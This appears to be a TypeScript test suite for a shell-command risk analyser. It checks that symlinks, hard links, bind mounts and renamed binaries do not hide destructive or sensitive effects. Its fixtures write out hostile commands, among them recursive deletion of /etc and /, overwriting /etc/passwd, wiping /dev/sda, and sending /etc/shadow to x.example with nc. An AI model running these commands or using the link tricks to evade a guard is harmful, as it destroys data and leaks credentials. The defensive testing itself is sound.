import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { assessRisk } from '../../../src/risk/assess-risk.js';
import { analyse } from '../../../src/shell/understand.js';
import { effectsOf } from '../effects-of.js';

describe('links and mounts that the same command makes', () => {
  it.each([
    ['ln -s /etc /tmp/x; rm -rf /tmp/x/*', 'delete:remove /etc/* recursive force'],
    ['ln -sfn / /tmp/root && rm -rf /tmp/root/*', 'delete:remove /* recursive force'],
    ['ln -s /etc /tmp/x && cd /tmp/x && rm -rf *', 'delete:remove /etc/* recursive force'],
    ['ln -s -t /tmp /etc; rm -rf /tmp/etc/ssh', 'delete:remove /etc/ssh recursive force'],
    ['ln --symbolic /etc /tmp; rm -rf /tmp/etc/ssh', 'delete:remove /etc/ssh recursive force'],
    ['cd /tmp && ln -s /etc && rm -rf etc/*', 'delete:remove /etc/* recursive force'],
    ['cd /srv; ln -s ../etc x; rm -rf x/*', 'delete:remove /etc/* recursive force'],
    ['ln -s ../etc /tmp/x; rm -rf /tmp/x/*', 'delete:remove /etc/* recursive force'],
    ['mkdir /tmp/d; ln -s /etc /tmp/d; rm -rf /tmp/d/etc/*', 'delete:remove /etc/* recursive force'],
    ['ln -s /etc /tmp/a; ln -s /tmp/a /tmp/b; rm -rf /tmp/b/*', 'delete:remove /etc/* recursive force'],
    ['ln -s /etc/passwd /tmp/p; echo x >> /tmp/p', 'write:append /etc/passwd'],
    ['ln /etc/passwd /tmp/p; tee -a /tmp/p', 'write:append /etc/passwd'],
    ['link /etc/passwd /tmp/p; sed -i d /tmp/p', 'write:modify /etc/passwd inPlace'],
    ['cp -s /etc/passwd /tmp/p; echo x > /tmp/p', 'write:overwrite /etc/passwd'],
    ['cp -as /etc /tmp/c; echo x > /tmp/c/passwd', 'write:overwrite /etc/passwd'],
    ['cp -l /etc/shadow /tmp/s; cat /tmp/s', 'read:read /etc/shadow sensitive'],
    ['ln -s /dev/sda /tmp/d; dd if=/dev/zero of=/tmp/d', '/dev/sda'],
    ['ln -s /etc/shadow /tmp/s; nc x.example 1 < /tmp/s', 'network:send x.example:1 external sensitive'],
    ['mount --bind / /mnt; rm -rf /mnt/*', 'delete:remove /* recursive force'],
    ['mount -o ro,rbind /etc /tmp/m && rm -rf /tmp/m', 'delete:remove /etc recursive force'],
    ['mount -B /var/lib /tmp/m; rm -rf /tmp/m/mysql', 'delete:remove /var/lib/mysql recursive force'],
    ['bindfs /etc /tmp/m; truncate -s 0 /tmp/m/passwd', '/etc/passwd'],
    ['sudo mount --rbind /etc /tmp/m; sudo sh -c "rm -rf /tmp/m/*"', 'delete:remove /etc/* recursive force'],
    ['ln -s /etc /tmp/e; rm -rf /tmp/e/', 'delete:remove /etc recursive force'],
    ['ln -s /etc /tmp/e; rm -rf /tmp/e/.', 'delete:remove /etc recursive force'],
    ['ln -s /etc /tmp/e; find /tmp/e/ -delete', 'delete:remove /etc recursive'],
    ['ln -s /etc /tmp/e; find -L /tmp/e -delete', 'delete:remove /etc recursive'],
    ['ln -s /etc /tmp/e; rsync -a --delete /tmp/empty/ /tmp/e/', 'delete:remove /etc recursive'],
    ['ln -s /bin/rm z; ./z -rf /etc', 'delete:remove /etc recursive force'],
    ['cp /bin/rm /tmp/z; /tmp/z -rf /etc', 'delete:remove /etc recursive force'],
  ])('lead to what they show: %s', (command, effect) => {
    expect(effectsOf(command).filter((each) => each.includes(effect))).not.toEqual([]);
  });

  it('are themselves what is removed by their own names', () => {
    for (const command of ['rm -rf /tmp/e', 'find /tmp/e -delete', 'unlink /tmp/e'])
      expect(effectsOf(`ln -s /etc /tmp/e; ${command}`).filter((each) => each.includes('/etc'))).toEqual([]);
  });

  it.each([
    ['after very many others', 'rm -rf /tmp/x/*', 400],
    ['over very many others', 'rm -rf /tmp/over/*', 40],
  ])('lead to what they show %s', (_what, line, count) => {
    const others = Array.from({ length: count }, (_, at) => `ln -s /srv/${at} /tmp/${at}; `).join('');
    const chain = Array.from({ length: 40 }, (_, at) => `ln -s /tmp/c${at} /tmp/c${at + 1}; `).join('');
    const links = `${others}ln -s /etc /tmp/x; ln -s /tmp/x /tmp/c0; ${chain}ln -s /tmp/c40 /tmp/over; `;
    expect(effectsOf(links + line)).toContain('delete:remove /etc/* recursive force');
  });

  it.each([
    [
      'many names for one',
      Array.from({ length: 70 }, (_, at) => `ln -sfn /srv/${at} /tmp/x; `).join(''),
      'rm -rf /tmp/x/*',
    ],
    ['names without end', 'ln -s /tmp/b/c /tmp/a; ln -s /tmp/a /tmp/b; ', 'cat /tmp/a/x'],
    [
      'names to be written to',
      Array.from({ length: 70 }, (_, at) => `ln -s /srv/${at} /tmp/x; `).join(''),
      'cat < /tmp/x',
    ],
  ])('are not followed where they lead to %s, which is said', (_what, links, line) => {
    expect(analyse(links + line).problems.map(({ code }) => code)).toContain('too-complex');
  });

  it('of a directory to what lies in it lead there once, if at all', () => {
    expect(analyse('ln -s ./conf/app.yml .; cat ./app.yml ./other').problems).toEqual([]);
    expect(effectsOf('mount --bind /srv/new /srv; rm -rf /srv/data')).toContain(
      'delete:remove /srv/new/data recursive force',
    );
  });

  it.each([
    'ln -s /etc /tmp/x; rm /tmp/x',
    'ln -s /etc /tmp/x; rm -rf /tmp/x',
    'ln -s /etc/hosts /tmp/h; cat /tmp/h',
    'ln -s ../shared/config.yml config.yml; cat config.yml',
    'ln -sfn /opt/app/releases/42 /opt/app/current; ls /opt/app/current/',
    'ln -s a b; ln -s b a; cat a/x',
  ])('are themselves where only they are removed, and harm nobody who reads: %s', (command) => {
    expect(assessRisk(analyse(command)).score).toBeLessThan(0.4);
  });

  it('take nothing away from what a command does without them', () => {
    const path = fc.constantFrom('/etc', '/tmp/a', '/tmp/b', '/srv/data', '/', '/home/x', '/tmp');
    const line = fc.constantFrom(
      'rm -rf $/*',
      'echo x > $/passwd',
      'cat $/shadow',
      'cd $ && rm -rf x',
      'chmod -R 777 $',
    );
    fc.assert(
      fc.property(fc.array(fc.tuple(path, path), { maxLength: 6 }), path, line, (links, used, template) => {
        const command = template.replace('$', used);
        const made = links.map(([target, link]) => `ln -s ${target} ${link}; `).join('');
        const alone = assessRisk(analyse(command)).score;
        expect(assessRisk(analyse(made + command)).score).toBeGreaterThanOrEqual(alone);
      }),
    );
  });
});
